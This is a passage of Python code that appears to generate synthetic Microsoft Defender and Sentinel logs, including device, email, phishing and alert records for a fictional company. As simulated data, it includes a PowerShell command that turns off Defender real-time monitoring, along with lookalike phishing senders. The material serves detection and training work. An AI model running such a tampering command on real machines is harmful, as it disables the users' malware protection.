        p = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s gpsvc", sysacct, t - DAY, parent_name="services.exe")
        row["AdditionalFields"] = {"AttributeList": ["cn", "memberOf", "userAccountControl"], "ScopeOfSearch": "SubTree",
                                   "SearchFilter": f"(&(objectCategory=person)(sAMAccountName={u}))", "DistinguishedName": "DC=contoso,DC=local"}
        row.update({"RemoteIP": "10.1.0.10", "RemotePort": 389, "RemoteDeviceName": "srv-dc-01.contoso.local"})
    elif action == "UsbDriveMounted":
        p = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p", sysacct, t - DAY, parent_name="services.exe")
        row["AdditionalFields"] = {"DriveLetter": "E:", "BusType": 7, "ProductName": rng.choice(["SanDisk Ultra", "Kingston DataTraveler 3.0"]),
                                   "ProductRevision": "1.00", "SerialNumber": rng.hexs(20, True), "Volume": "\\??\\Volume{" + rng.guid() + "}", "Manufacturer": "USB"}
    elif action == "FirewallInboundConnectionBlocked":
        p = proc(w, rng, dev, "System", "", sysacct, t - 9 * DAY, parent_name="")
        src = rng.choice([d for d in w.devices if d is not dev and d.windows])
        row.update({"LocalIP": dev.ip, "LocalPort": rng.choice([135, 445, 5985]), "RemoteIP": src.ip,
                    "RemotePort": rng.randint(49152, 65535), "RemoteDeviceName": src.name,
                    "AdditionalFields": {"Direction": "Inbound", "FirewallRule": "Block inbound (default)"}})
    elif action == "AntivirusDetection":
        p = proc(w, rng, dev, "MsMpEng.exe", q(w.exe["MsMpEng.exe"]["path"]), sysacct, t - 3 * DAY, parent_name="services.exe")
        name = rng.choice(["FreePDFConverterSetup.exe", "WinZipper_Installer.exe"])
        md5, sha1, sha256 = hashes(name)
        row.update({"FileName": name, "FolderPath": f"C:\\Users\\{u}\\Downloads\\{name}", "FileSize": 2_100_000 + int(sha1[:4], 16),
                    "SHA1": sha1, "SHA256": sha256, "MD5": md5,
                    "FileOriginUrl": "http://free-pdf-converter.example-downloads.net/setup.exe", "FileOriginIP": "192.0.2.140",
                    "AdditionalFields": {"ThreatName": "PUA:Win32/Presenoker", "WasExecutingWhileDetected": False, "WasRemediated": True,
                                         "ReportSource": "Realtime", "Action": "quarantine", "Category": "PotentiallyUnwantedSoftware"}})
    elif action == "ServiceInstalled":
        p = proc(w, rng, dev, "services.exe", r"C:\Windows\system32\services.exe", sysacct, t - 5 * DAY, parent_name="wininit.exe")
        row.update({"FileName": "GoogleUpdaterService142.0.7444.60.exe", "FolderPath": r"C:\Program Files (x86)\Google\GoogleUpdater\142.0.7444.60\updater.exe",
                    "AccountName": "LocalSystem", "AdditionalFields": {"ServiceName": "GoogleUpdaterService142.0.7444.60", "ServiceStartType": 2, "ServiceType": 16, "ServiceAccount": "LocalSystem"}})
    elif action == "TamperingAttempt":
        p = proc(w, rng, dev, "powershell.exe", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", w.admin, t - 2 * TICKS, parent_name="explorer.exe", elevated=True)
        row.update({"RegistryKey": r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection",
                    "RegistryValueName": "DisableRealtimeMonitoring", "RegistryValueData": "1",
                    "AdditionalFields": {"Status": "Blocked", "TamperingAction": "RegistryModification", "Target": "Real-Time Protection", "OriginalValue": "0", "TargetValue": "1"}})
    elif action == "UserAccountCreated":
        p = proc(w, rng, dev, "lsass.exe", r"C:\Windows\system32\lsass.exe", sysacct, t - 5 * DAY, parent_name="wininit.exe")
        row.update({"AccountName": "helpdesk-temp", "AccountDomain": dev.short.upper(), "AccountSid": f"S-1-5-21-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**9, 4 * 10**9)}-1003"})
    else:  # OpenProcessApiCall: an AV / EDR component reading a process
        p = proc(w, rng, dev, "MsMpEng.exe", q(w.exe["MsMpEng.exe"]["path"]), sysacct, t - 3 * DAY, parent_name="services.exe")
        tgt = proc(w, rng, dev, "svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p", sysacct, t - DAY, parent_name="services.exe")
        s = subject(tgt)
        row.update({k: s[k] for k in ("FileName", "FolderPath", "ProcessId", "ProcessCreationTime", "SHA1", "ProcessCommandLine")})
        row["AdditionalFields"] = {"DesiredAccess": 4096}
    row.update(initiating(p))
    row["ActionType"] = action
    return [row]


CERTS = {  # signer type: (Signer, Issuer, root-MS, CRL)
    "OsVendor": ("Microsoft Windows", "Microsoft Windows Production PCA 2011", True,
                 ["http://crl.microsoft.com/pki/crl/products/MicWinProPCA2011_2011-10-19.crl"]),
    "Microsoft": ("Microsoft Corporation", "Microsoft Code Signing PCA 2011", True,
                  ["http://www.microsoft.com/pkiops/crl/MicCodSigPCA2011_2011-07-08.crl"]),
    "ThirdParty": (None, "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", False,
                   ["http://crl3.digicert.com/DigiCertTrustedG4CodeSigningRSA4096SHA3842021CA1.crl",
                    "http://crl4.digicert.com/DigiCertTrustedG4CodeSigningRSA4096SHA3842021CA1.crl"]),
}
THIRD_PARTY_SIGNER = {"chrome.exe": "Google LLC", "git.exe": "Johannes Schindelin",
                      "python.exe": "Python Software Foundation", "Acrobat.exe": "Adobe Inc."}


def cert_row(w: World, rng: Rng, dev: Device, t: int, exe_key: str) -> dict:
    e = w.exe[exe_key]
    row = dev_row(w, "DeviceFileCertificateInfo", dev, t)
    row["SHA1"] = e["sha1"]
    if e["signer"] in CERTS:
        signer, issuer, ms, crl = CERTS[e["signer"]]
        signer = signer or THIRD_PARTY_SIGNER.get(e["name"], e["company"])
        seed = int(hashlib.sha1((signer + e["version"]).encode()).hexdigest()[:8], 16)
        created = parse_iso("2024-09-01T00:00:00Z") + (seed % 300) * DAY + (seed % 86400) * TICKS
        row.update({"Signer": signer, "Issuer": issuer, "IsRootSignerMicrosoft": ms,
                    "SignerHash": hashlib.sha1(signer.encode()).hexdigest(),
                    "IssuerHash": hashlib.sha1(issuer.encode()).hexdigest(),
                    "CertificateSerialNumber": ("33000" if ms else "0") + hashlib.md5(signer.encode()).hexdigest()[:33].upper(),
                    "CertificateCreationTime": created, "CertificateExpirationTime": created + 365 * DAY + (seed % 3) * 365 * DAY,
                    "CertificateCountersignatureTime": created + (seed % 200) * DAY + 1234567,
                    "IsSigned": True, "IsTrusted": True,
                    "SignatureType": "Catalog" if e["signer"] == "OsVendor" and rng.chance(0.5) else "Embedded",
                    "CrlDistributionPointUrls": jtext(crl)})
    else:
        row.update({"Signer": "", "Issuer": "", "IsRootSignerMicrosoft": False, "SignerHash": "", "IssuerHash": "",
                    "CertificateSerialNumber": "", "CertificateCreationTime": None, "CertificateExpirationTime": None,
                    "CertificateCountersignatureTime": None, "IsSigned": False, "IsTrusted": False,
                    "SignatureType": "", "CrlDistributionPointUrls": ""})
    return row


def fill_cert(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice([d for d in w.devices if d.windows])
    t = w.rand_time(rng)
    exe = rng.choice([k for k, v in EXES.items() if v[7] in CERTS])
    return [cert_row(w, rng, dev, t, exe)]


MODELS = {"Workstation": [("Dell Inc.", "Latitude 7440"), ("LENOVO", "21HMS0R600"), ("HP", "HP EliteBook 840 G10")],
          "Server": [("Microsoft Corporation", "Virtual Machine")]}


def info_row(w: World, rng: Rng, dev: Device, t: int) -> dict:
    row = dev_row(w, "DeviceInfo", dev, t)
    ver, build, vinfo, dist, client = OS_INFO[dev.platform]
    vendor, model = (("Apple Inc.", "MacBookPro18,3") if dev.platform == "macOS" else
                     ("Microsoft Corporation", "Virtual Machine") if dev.server else
                     MODELS["Workstation"][int(dev.id[:2], 16) % 3])
    users = []
    if dev.owner:
        users.append({"UserName": dev.owner.name, "DomainName": "CONTOSO", "Sid": dev.owner.sid})
    elif dev.windows and rng.chance(0.5):
        users.append({"UserName": w.admin.name, "DomainName": "CONTOSO", "Sid": w.admin.sid})
    exposure = "High" if dev.facing else rng.choice(["Low", "Medium", "Medium"])
    row.update({
        "AadDeviceId": dev.aad_id, "DeviceObjectId": dev.object_id,
        "AdditionalFields": {"AsimovDeviceCategory": "Endpoint", "Tags": [dev.group]} if rng.chance(0.5) else None,
        "AssetValue": "High" if dev.short in ("srv-dc-01", "lt-exec-001") else "Normal",
        "ClientVersion": client if t > w.now - 6 * DAY or not dev.windows else client.rsplit(".", 1)[0] + ".4169",
        "DeviceCategory": "Endpoint", "DeviceSubtype": "", "DeviceType": dev.type, "ExclusionReason": "",
        "ExposureLevel": exposure, "IsAzureADJoined": dev.windows and not dev.server,
        "IsExcluded": False, "IsInternetFacing": dev.facing,
        "JoinType": "" if not dev.windows else ("Domain Joined" if dev.server else "Hybrid Azure AD Join"),
        "LoggedOnUsers": users, "MergedToDeviceId": "",
        "Model": model, "Vendor": vendor, "OnboardingStatus": "Onboarded", "OSArchitecture": "64-bit",
        "OSBuild": build or None, "OSDistribution": dist, "OSPlatform": dev.platform,
        "OSVersion": ver, "OSVersionInfo": vinfo, "PublicIP": dev.public_ip,
        "RegistryDeviceTag": "PCI" if dev.short == "srv-sql-03" else "",
        "MergedDeviceIds": dev.merged_from if t > w.merge_t else "",
        "SensorHealthState": "Active" if rng.chance(0.95) else "ImpairedCommunication",
    })
    return row


def fill_info(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice(w.devices)
    return [info_row(w, rng, dev, w.rand_time(rng, office=False))]


def fill_netinfo(w: World, rng: Rng) -> list[dict]:
    dev = rng.choice(w.devices)
    t = w.rand_time(rng, office=False)
    row = dev_row(w, "DeviceNetworkInfo", dev, t)
    laptop = dev.short.startswith(("lt-", "mac-"))
    away = laptop and rng.chance(0.35)
    ip = f"192.168.1.{rng.randint(20, 200)}" if away else dev.ip
    gw = ".".join(ip.split(".")[:3]) + ".1"
    row.update({
        "ConnectedNetworks": [{"Name": "Home-5G" if away else "contoso.local", "Description": "Home-5G" if away else "contoso.local",
                               "IsConnectedToInternet": True, "Category": "Private" if away else "Domain"}],
        "DefaultGateways": [gw], "DnsAddresses": [gw] if away else ["10.1.0.10", "10.1.0.11"],
        "IPAddresses": [{"IPAddress": ip, "SubnetPrefix": 24, "AddressType": "Private"},
                        {"IPAddress": "fe80::" + ":".join(dev.id[i:i + 4] for i in (0, 4, 8, 12)), "SubnetPrefix": 64, "AddressType": "Private"}],
        "IPv4Dhcp": gw if away else ("" if dev.server else "10.1.0.10"),
        "IPv6Dhcp": "fe80::9a9b:cbff:fe12:3456" if away else "",
        "MacAddress": dev.mac.replace("-", ""),
        "NetworkAdapterName": "Wi-Fi" if laptop else ("eth0" if dev.platform == "Linux" else "Ethernet"),
        "NetworkAdapterStatus": "Up", "NetworkAdapterType": "Wireless80211" if laptop else "Ethernet",
        "NetworkAdapterVendor": "Intel Corporation" if not dev.server else "Microsoft",
        "TunnelType": "None",
    })
    return [row]


# ---------------------------------------------------------------------------
# email: messages -> EmailEvents / EmailUrlInfo / EmailAttachmentInfo / EmailPostDeliveryEvents

PARTNER_SUBJECTS = [
    "Invoice INV-{n} from {org}", "RE: Q4 pricing update", "Your order #{n} has shipped",
    "Contract renewal 2026", 'RE: "Budget 2026" review, comments inline', "Meeting notes - project kickoff",
    "R\u00e9union budget \u2013 \u00e9quipe Finance", "Statement of account, October", "Lunch & learn: KQL basics",
]
INTERNAL_SUBJECTS = ["FW: Updated travel policy", "Team offsite agenda", "1:1 notes", "Quick question about the {org} deal",
                     "Expense report approved", "Reminder: timesheets due Friday"]
NEWSLETTER_SUBJECTS = ["Weekly newsletter: cloud security tips", "Webinar: modern SOC with KQL",
                       "Your monthly usage summary", "New features in November"]
SPAM_SUBJECTS = ["\U0001F381 Claim your reward today", "You have (1) new voicemail\nListen now",
                 "Limited offer: 80% off licenses", "Re: your parcel could not be delivered"]


def recipient(u: Account) -> tuple[str, str]:
    return u.upn, u.oid


def o365_imid(rng: Rng) -> str:
    box = rng.choice(["PH0PR11MB", "DM6PR04MB", "AM9PR08MB", "SA1PR21MB"]) + str(rng.randint(1000, 9999))
    return f"<{box}{rng.hexs(12, True)}{rng.hexs(8, True)}@{box}.namprd11.prod.outlook.com>"


def new_message(w: World, rng: Rng, t: int, kind: str, **over) -> dict:
    m = {"id": rng.guid(), "t": t, "kind": kind, "urls": [], "attachments": [], "post": [],
         "threat": "", "threat_names": "", "detect": "", "confidence": "", "delivery": "Delivered",
         "location": "Inbox/folder", "email_action": "", "policy": "", "policy_guid": "",
         "org_action": "", "org_policy": "", "user_action": "", "user_policy": "", "connectors": "",
         "bcl": rng.randint(0, 2), "lang": "en", "cluster": rng.getrandbits(40), "sender_ip6": "",
         "auth": {"SPF": "pass", "DKIM": "pass", "DMARC": "pass", "CompAuth": "pass"}, "extra": None,
         "sender_oid": ""}
    org_dom = rng.choice(PARTNER_DOMAINS)
    org = org_dom.split(".")[0].replace("-", " ").title().replace(" ", "")
    if kind == "internal":
        s = rng.choice(w.users)
        m.update(direction="Intra-org", sender=s.upn, sender_name=s.display, sender_oid=s.oid,
                 mail_from=s.upn, sender_ip="", subject=rng.choice(INTERNAL_SUBJECTS).format(org=org),
                 rcpts=[recipient(u) for u in rng.sample([x for x in w.users if x is not s], rng.randint(1, 3))],
                 imid=o365_imid(rng), bcl=None, auth={"SPF": "", "DKIM": "", "DMARC": "", "CompAuth": ""})
    elif kind == "outbound":
        s = rng.choice(w.users)
        m.update(direction="Outbound", sender=s.upn, sender_name=s.display, sender_oid=s.oid, mail_from=s.upn,
                 sender_ip="", subject=("RE: " + rng.choice(PARTNER_SUBJECTS).format(n=rng.randint(1000, 99999), org="Contoso")).replace("RE: RE: ", "RE: "),
                 rcpts=[(f"{rng.choice(['orders', 'accounts', 'j.smith', 'support'])}@{org_dom}", "")],
                 imid=o365_imid(rng), location="On-premises/external", bcl=None)
    elif kind in ("partner", "newsletter", "spam"):
        if kind == "partner":
            local = rng.choice(["orders", "accounts", "noreply", "j.smith", "sales"])
            dom, name = org_dom, f"{org} {local.title()}"
            subject = rng.choice(PARTNER_SUBJECTS).format(n=rng.randint(1000, 99999), org=org)
            mail_from, ip = f"bounces+{rng.randint(1000, 99999)}@mail.{org_dom}", f"40.107.{rng.randint(1, 250)}.{rng.randint(1, 250)}"
            if org_dom == "fabrikam.com":
                m.update(connectors="Inbound from Fabrikam", org_action="Allow", org_policy="Exchange transport rule")
        elif kind == "newsletter":
            dom = rng.choice(["news.relecloud.com", "mail.litwareinc.com"])
            name, local = dom.split(".")[1].title() + " News", "newsletter"
            subject, mail_from = rng.choice(NEWSLETTER_SUBJECTS), f"bounce-{rng.hexs(10)}@{dom}"
            ip = f"209.85.{rng.randint(128, 250)}.{rng.randint(1, 250)}"
            m["bcl"] = rng.randint(4, 7)
            if rng.chance(0.2):
                m.update(user_action="Move to Junk", user_policy="User blocked sender list", delivery="Junked",
                         location="Junk folder")
        else:
            dom, local = rng.choice(["bestprice-offers.biz", "parcel-notice.info"]), rng.choice(["deals", "info", "notice"])
            if dom == "parcel-notice.info":
                m.update(org_action="Move to Junk", org_policy="Blocked sender domain list")
            name, subject = "Customer Service", rng.choice(SPAM_SUBJECTS)
            mail_from, ip = f"{local}@{dom}", f"192.0.2.{rng.randint(10, 250)}"
            m.update(threat="Spam", detect=jtext({"Spam": ["Advanced filter"]}), confidence=jtext({"Spam": "High"}),
                     delivery="Junked", location="Junk folder", email_action="Move message to junk mail folder",
                     policy="Antispam", policy_guid=w.spam_policy, bcl=rng.randint(7, 9),
                     auth={"SPF": "softfail", "DKIM": "none", "DMARC": "fail", "CompAuth": "fail"})
        if rng.chance(0.15):
            m["sender_ip6"], ip = f"2a01:111:f403:{rng.randint(2000, 2999):x}::{rng.randint(1, 900):x}", ""
        rc = rng.sample(w.users, rng.randint(1, 2 if kind != "newsletter" else 3))
        m.update(direction="Inbound", sender=f"{local}@{dom}", sender_name=name, mail_from=mail_from,
                 sender_ip=ip, subject=subject, rcpts=[recipient(u) for u in rc],
                 imid=f"<{rng.hexs(16)}.{rng.hexs(8)}@{dom}>")
        if kind == "partner" and rng.chance(0.2):
            m["lang"] = rng.choice(["fr", "de"])
    m.update(over)
    if kind in ("partner", "newsletter", "internal") and not m["urls"] and rng.chance(0.6):
        base = m["sender"].split("@")[1] if kind != "internal" else "contoso.sharepoint.com"
        n = rng.randint(1, 3)
        m["urls"] = [(f"https://{base}/{rng.choice(['unsubscribe', 'orders', 'docs', 'sites/Finance/Shared Documents'])}/{rng.hexs(10)}", "Body") for _ in range(n)]
    if kind in ("partner", "internal") and not m["attachments"] and rng.chance(0.3):
        name = rng.choice(["Invoice_{n}.pdf", "Quote_{n}.xlsx", "Agenda.docx", "Statement_{n}.pdf"]).format(n=rng.randint(1000, 9999))
        m["attachments"] = [(name, rng.randint(20000, 900000), "", "", "")]
    return m


def message_rows(w: World, rng: Rng, m: dict) -> dict[str, list[dict]]:
    out = {"EmailEvents": [], "EmailUrlInfo": [], "EmailAttachmentInfo": [], "EmailPostDeliveryEvents": []}
    t = m["t"]
    dom = m["sender"].split("@")[1]
    base = {"Timestamp": t, "TimeGenerated": t, "NetworkMessageId": m["id"], "TenantId": w.tenant,
            "SourceSystem": "Azure", "SenderFromAddress": m["sender"], "SenderDisplayName": m["sender_name"],
            "SenderObjectId": m["sender_oid"]}
    for i, (addr, oid) in enumerate(m["rcpts"]):
        post = [p for p in m["post"] if p["rcpt"] == addr]
        last = post[-1] if post else None
        tr = w.fix(t + i * rng.randint(1, 9000))  # per-recipient delivery within a second
        row = dict(base, Timestamp=tr, TimeGenerated=tr, Type="EmailEvents", RecipientEmailAddress=addr,
                   RecipientObjectId=oid, ReportId=f"{m['id']}-{rng.getrandbits(62)}-{i}",
                   InternetMessageId=m["imid"], Subject=m["subject"], EmailDirection=m["direction"],
                   SenderFromDomain=dom, SenderMailFromAddress=m["mail_from"],
                   SenderMailFromDomain=m["mail_from"].split("@")[1], SenderIPv4=m["sender_ip"],
                   SenderIPv6=m["sender_ip6"], AttachmentCount=len(m["attachments"]), UrlCount=len(m["urls"]),
                   ThreatTypes=m["threat"], ThreatNames=m["threat_names"], DetectionMethods=m["detect"],
                   ConfidenceLevel=m["confidence"], DeliveryAction=m["delivery"], DeliveryLocation=m["location"],
                   LatestDeliveryAction=last["action"] if last else m["delivery"],
                   LatestDeliveryLocation=last["location"] if last else m["location"],
                   EmailAction=m["email_action"], EmailActionPolicy=m["policy"], EmailActionPolicyGuid=m["policy_guid"],
                   OrgLevelAction=m["org_action"], OrgLevelPolicy=m["org_policy"],
                   UserLevelAction=m["user_action"], UserLevelPolicy=m["user_policy"],
                   EmailLanguage=m["lang"], EmailClusterId=m["cluster"], BulkComplaintLevel=m["bcl"],
                   AuthenticationDetails=jtext(m["auth"]) if any(m["auth"].values()) else "",
                   Connectors=m["connectors"], AdditionalFields=m["extra"])
        out["EmailEvents"].append(row)
        for name, size, threat, tnames, detect in m["attachments"]:
            ext = name.rsplit(".", 1)[1].lower()
            out["EmailAttachmentInfo"].append(dict(
                base, Timestamp=tr, TimeGenerated=tr, Type="EmailAttachmentInfo", RecipientEmailAddress=addr,
                RecipientObjectId=oid, ReportId=f"{m['id']}-{rng.getrandbits(62)}-{i}", FileName=name,
                FileType={"pdf": "pdf", "docx": "docx", "xlsx": "xlsx", "docm": "docm", "xlsm": "xlsm", "zip": "zip", "htm": "html"}.get(ext, ext),
                FileSize=size, SHA256=hashes(name + str(size))[2], ThreatTypes=threat, ThreatNames=tnames,
                DetectionMethods=detect))
        for p in post:
            out["EmailPostDeliveryEvents"].append({
                "Timestamp": p["t"], "TimeGenerated": p["t"], "Type": "EmailPostDeliveryEvents", "TenantId": w.tenant,
                "SourceSystem": "Azure", "NetworkMessageId": m["id"], "InternetMessageId": m["imid"],
                "RecipientEmailAddress": addr, "ReportId": f"{m['id']}-{rng.getrandbits(62)}-{i}",
                "Action": p["action"], "ActionType": p["type"], "ActionTrigger": p["trigger"],
                "ActionResult": p["result"], "DeliveryLocation": p["location"],
                "ThreatTypes": p["threat"], "DetectionMethods": p["detect"]})
    for url, loc in m["urls"]:
        host = url.split("/")[2]
        out["EmailUrlInfo"].append({"Timestamp": t, "TimeGenerated": t, "Type": "EmailUrlInfo", "TenantId": w.tenant,
                                    "SourceSystem": "Azure", "NetworkMessageId": m["id"],
                                    "ReportId": f"{m['id']}-{rng.getrandbits(62)}-u", "Url": url,
                                    "UrlDomain": host, "UrlLocation": loc})
    return out


def zap(m: dict, rcpt: str, t: int, kind: str = "Phish ZAP", result: str = "Success") -> None:
    threat = "Malware" if kind == "Malware ZAP" else "Phish"
    if kind == "Manual remediation":
        action, trig, loc, threat = "Soft delete", "AdminAction", "Deleted items", m["threat"] or "Phish"
    else:
        action, trig, loc = "Moved to quarantine", "SpecialAction", "Quarantine"
    m["post"].append({"rcpt": rcpt, "t": t, "action": action, "type": kind, "trigger": trig,
                      "result": result, "location": loc if result == "Success" else m["location"],
                      "threat": threat, "detect": m["detect"]})


FILLER_PHISH = [("payroll@contoso-payroll-portal.com", "Contoso Payroll", "Your November payslip is available"),
                ("no-reply@microsoft-365-alerts.net", "Microsoft 365", "Unusual sign-in activity detected"),
                ("voicemail@fabrikam-voice.com", "Voicemail Service", "New voicemail from +1 425 555 0199")]


def threat_message(w: World, rng: Rng, t: int, kind: str) -> dict:
    """Filler phish / malware: blocked at delivery, or delivered and removed later."""
    if kind == "phish":
        sender, name, subject = rng.choice(FILLER_PHISH)
        dom = sender.split("@")[1]
        m = new_message(w, rng, t, "partner", sender=sender, sender_name=name, mail_from=sender,
                        sender_ip=f"203.0.113.{rng.randint(100, 250)}", sender_ip6="", subject=subject,
                        rcpts=[recipient(u) for u in rng.sample(w.users, rng.randint(1, 3))],
                        imid=f"<{rng.hexs(20)}@{dom}>", urls=[(f"https://{dom}/login?session={rng.hexs(16)}", "Body")],
                        attachments=[], threat="Phish", detect=jtext({"Phish": ["URL malicious reputation"]}),
                        confidence=jtext({"Phish": rng.choice(["High", "Normal"])}), connectors="", lang="en", bcl=0,
                        org_action="", org_policy="", auth={"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "fail"})
        later = "Phish ZAP"
    else:
        name = f"Invoice_{rng.randint(1000, 9999)}." + rng.choice(["docm", "xlsm", "zip", "htm"])
        m = new_message(w, rng, t, "partner", sender=f"billing@{MALWARE_SENDER_DOMAIN}", sender_name="Fabrikam Billing",
                        mail_from=f"billing@{MALWARE_SENDER_DOMAIN}", sender_ip=f"198.51.100.{rng.randint(60, 90)}",
                        sender_ip6="", subject=f"Invoice {rng.randint(10000, 99999)} overdue",
                        rcpts=[recipient(u) for u in rng.sample(w.users, rng.randint(1, 2))],
                        imid=f"<{rng.hexs(20)}@{MALWARE_SENDER_DOMAIN}>", urls=[], connectors="", org_action="",
                        org_policy="", attachments=[(name, rng.randint(20000, 90000), "Malware", "TrojanDownloader:O97M/Donoff",
                                                     jtext({"Malware": ["File detonation"]}))],
                        threat="Malware", threat_names="TrojanDownloader:O97M/Donoff",
                        detect=jtext({"Malware": ["File detonation"]}), confidence=jtext({"Malware": "High"}), bcl=0)
        later = "Malware ZAP"
    if rng.chance(0.5):
        m.update(delivery="Blocked", location="Quarantine", email_action="Send message to quarantine",
                 policy="Antiphish" if kind == "phish" else "Antimalware", policy_guid=w.spam_policy)
    else:
        zt = w.fix(t + rng.randint(20, 400) * MINUTE)
        for addr, _ in m["rcpts"]:
            zap(m, addr, w.fix(jitter(rng, zt, 120)), later)
    return m


def filler_message(w: World, i: int) -> dict:
    while len(w.filler_messages) <= i:
        rng = w.mail_rng
        kind = rng.wpick([(42, "partner"), (18, "internal"), (10, "outbound"), (14, "newsletter"), (10, "spam"),
                          (4, "phish"), (2, "malware")])
        t = w.rand_time(rng)
        if kind in ("phish", "malware"):
            m = threat_message(w, rng, t, kind)
        else:
            m = new_message(w, rng, t, kind)
        if kind == "spam" and rng.chance(0.25):
            zap(m, m["rcpts"][0][0], w.fix(m["t"] + rng.randint(2, 30) * HOUR), "Manual remediation")
        w.filler_messages.append((m, message_rows(w, rng, m)))
    return w.filler_messages[i]


# ---------------------------------------------------------------------------
# alerts and incidents

PRODUCTS = {  # ProductName: (ProviderName, ProductComponentName)
    "Microsoft Defender Advanced Threat Protection": ("MDATP", ""),
    "Office 365 Advanced Threat Protection": ("OATP", ""),
    "Azure Advanced Threat Protection": ("Azure Advanced Threat Protection", ""),
    "Azure Security Center": ("Azure Security Center", "Servers"),
    "Defender for IoT": ("IoTSecurity", ""),
    "Azure Sentinel": ("ASI Scheduled Alerts", "Scheduled Alerts"),
}
MDATP, OATP, AATP, ASC, IOT, ASI = list(PRODUCTS)


class Ents:
    """Sentinel's Entities JSON: objects with $id, later ones $ref earlier."""

    def __init__(self):
        self.items, self.n = [], 1

    def add(self, obj: dict, top: bool = True) -> dict:
        self.n += 1
        obj = {"$id": str(self.n), **obj}
        if top:
            self.items.append(obj)
        return obj

    def ref(self, obj: dict) -> dict:
        return {"$ref": obj["$id"]}

    def host(self, dev: Device) -> dict:
        return self.add({"HostName": dev.short, "DnsDomain": "contoso.local" if dev.windows else "",
                         "OSFamily": "Windows" if dev.windows else dev.platform, "OSVersion": dev.platform,
                         "MdatpDeviceId": dev.id, "FQDN": dev.name, "AadDeviceId": dev.aad_id or None,
                         "Type": "host"})

    def account(self, a: Account) -> dict:
        o = {"Name": a.name, "NTDomain": a.domain.upper() if a.domain != "nt authority" else "NT AUTHORITY"}
        if a.upn:
            o.update(UPNSuffix=a.upn.split("@")[1], AadUserId=a.oid, DisplayName=a.display)
        if a.sid:
            o["Sid"] = a.sid
        o["Type"] = "account"
        return self.add(o)

    def file(self, name: str, directory: str, sha1: str = "", sha256: str = "", top: bool = True) -> dict:
        hs = [self.add({"Algorithm": alg, "Value": v, "Type": "filehash"}, top=False)
              for alg, v in (("SHA1", sha1), ("SHA256", sha256)) if v]
        return self.add({"Name": name, "Directory": directory, "FileHashes": hs, "Type": "file"}, top)

    def process(self, p: Proc, host: dict, acct: dict) -> dict:
        img = self.file(p.exe["name"], p.exe["folder"], p.exe["sha1"], p.exe["sha256"], top=False)
        return self.add({"ProcessId": str(p.pid), "CommandLine": p.cmd, "CreationTimeUtc": fmt_dt(p.created),
                         "ImageFile": img, "Account": self.ref(acct), "Host": self.ref(host), "Type": "process"})

    def ip(self, addr: str) -> dict:
        return self.add({"Address": addr, "Type": "ip"})

    def url(self, url: str) -> dict:
        return self.add({"Url": url, "Type": "url"})

    def mailbox(self, a: Account) -> dict:
        return self.add({"MailboxPrimaryAddress": a.upn, "DisplayName": a.display, "Upn": a.upn,
                         "AadId": a.oid, "Type": "mailbox"})

    def mail(self, m: dict, rcpt: str) -> dict:
        return self.add({"Recipient": rcpt, "Urls": [u for u, _ in m["urls"]], "Sender": m["sender"],
                         "P1Sender": m["mail_from"], "SenderIP": m["sender_ip"] or m["sender_ip6"],
                         "ReceivedDate": fmt_dt(m["t"]), "NetworkMessageId": m["id"],
                         "InternetMessageId": m["imid"], "Subject": m["subject"],
                         "AntispamDirection": m["direction"], "DeliveryAction": m["delivery"],
                         "DeliveryLocation": m["location"].split("/")[0], "Type": "mailMessage"})

    def resource(self, rid: str) -> dict:
        return self.add({"ResourceId": rid, "SubscriptionId": rid.split("/")[2], "Type": "azure-resource"})

    def json(self) -> str:
        return jtext(self.items)


def vm_id(w: World, name: str, rg: str = "rg-prod") -> str:
    return (f"/subscriptions/{w.asc_subscription}/resourceGroups/{rg}/providers/"
            f"Microsoft.Compute/virtualMachines/{name}")


def make_alert(w: World, rng: Rng, product: str, name: str, t: int, severity: str, *,
               ents: Ents | None = None, desc: str = "", tactics=("Unknown",), techniques=(),
               subtechniques=(), ext: dict | None = None, compromised: str = "", status: str = "New",
               alert_type: str = "", remediation=(), resource_id: str = "", start: int | None = None,
               end: int | None = None, system_id: str | None = None, vendor_id: str | None = None,
               confidence: tuple[str, float | None] = ("", None), links: list | None = None,
               add: bool = True) -> dict:
    provider, component = PRODUCTS[product]
    sid = system_id or rng.guid()
    start = t - rng.randint(1, 40) * MINUTE - rng.randint(0, TICKS) if start is None else start
    end = t - rng.randint(0, 60) * TICKS - rng.randint(0, TICKS) if end is None else end
    if end < start:
        end = start
    if vendor_id is None:
        vendor_id = {MDATP: f"da{rng.randint(10**17, 10**18 - 1)}_{rng.randint(-2**31, 2**31 - 1)}",
                     ASC: f"{2517 * 10**15 + rng.randint(0, 10**15)}_{rng.guid()}",
                     IOT: str(rng.randint(1000, 99999)), ASI: sid}.get(product, rng.guid())
    if product == MDATP:
        link = f"https://security.microsoft.com/alerts/{vendor_id}?tid={w.tenant}"
    elif product == ASC:
        link = (f"https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/"
                f"{vendor_id}/subscriptionId/{w.asc_subscription}/resourceGroup/rg-prod/referencedFrom/alertDeepLink/location/westeurope")
    elif product in (OATP, AATP):
        link = f"https://security.microsoft.com/alerts/{vendor_id}?tid={w.tenant}"
    else:
        link = ""
    props = {"ProcessedBySentinel": "True", "Alert generation status": "Full alert created"}
    if product == MDATP:
        props.update({"MicrosoftDefenderAtp.Category": tactics[0], "MicrosoftDefenderAtp.DetectionSource": "EDR",
                      "OriginSource": "EDR"})
    props.update(ext or {})
    row = {
        "TimeGenerated": t, "Type": "SecurityAlert", "AlertName": name, "DisplayName": name,
        "AlertSeverity": severity, "AlertType": alert_type or {MDATP: "WindowsDefenderAtp", OATP: "ThreatManagement"}.get(product, name.replace(" ", "")),
        "CompromisedEntity": compromised, "ConfidenceLevel": confidence[0], "ConfidenceScore": confidence[1],
        "Description": desc or (f"{name} on {compromised}." if compromised else f"{name}."), "StartTime": start, "EndTime": end,
